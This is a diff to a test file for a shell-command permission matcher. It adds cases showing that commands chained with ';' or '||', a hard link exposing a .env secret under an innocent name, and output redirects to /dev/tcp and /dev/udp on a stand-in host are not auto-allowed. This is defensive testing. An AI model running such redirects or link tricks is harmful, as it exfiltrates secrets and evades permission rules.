@@ -2,7 +2,7 @@
  * Rules of users: the calls they match when a command does not state plainly which files it touches or what it runs.
  */
 
-import { mkdir, symlink, writeFile } from 'node:fs/promises'
+import { link, mkdir, symlink, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { describe, expect, test } from 'vitest'
 import { temporaryFolder } from '../../../test/support/temporary-folder.js'
@@ -17,6 +17,8 @@ const workspace = share(async () => {
   for (const name of ['private/a.txt', 'private/deep/b.txt', 'src/a.ts', 'build/out.js'])
     await writeFile(join(folder, name), 'x')
   await symlink('../private/a.txt', join(folder, 'src/link.txt'))
+  await writeFile(join(folder, '.env'), 'x')
+  await link(join(folder, '.env'), join(folder, 'src/twin.txt'))
   return folder
 })
 
@@ -120,6 +122,14 @@ describe('a rule that allows', () => {
     ['./npm run build', 'npm run *', 'ask otherwise'],
     ['/usr/bin/npm run build', 'npm run *', 'allow'],
     ['git -c core.pager=x push', 'git push **', 'ask otherwise'],
+    ['make src/a.ts', 'make **', 'allow'],
+    ['make src/twin.txt', 'make **', 'ask otherwise'],
+    ['cd src && make ../build', 'make **', 'allow'],
+    ['cd src; make ../build', 'make **', 'ask otherwise'],
+    ['cd elsewhere || make ../build', 'make **', 'ask otherwise'],
+    ['npm run build > build/log', 'npm run *', 'allow'],
+    ['npm run build > /dev/tcp/a.example/80', 'npm run *', 'ask otherwise'],
+    ['npm run build 3<>/dev/udp/a.example/53', 'npm run *', 'ask otherwise'],
   ])('%s, with %s: %s', (command, pattern, expected) => {
     expect(verdict(command, 'allow', { commands: [pattern] })).toBe(expected)
   })
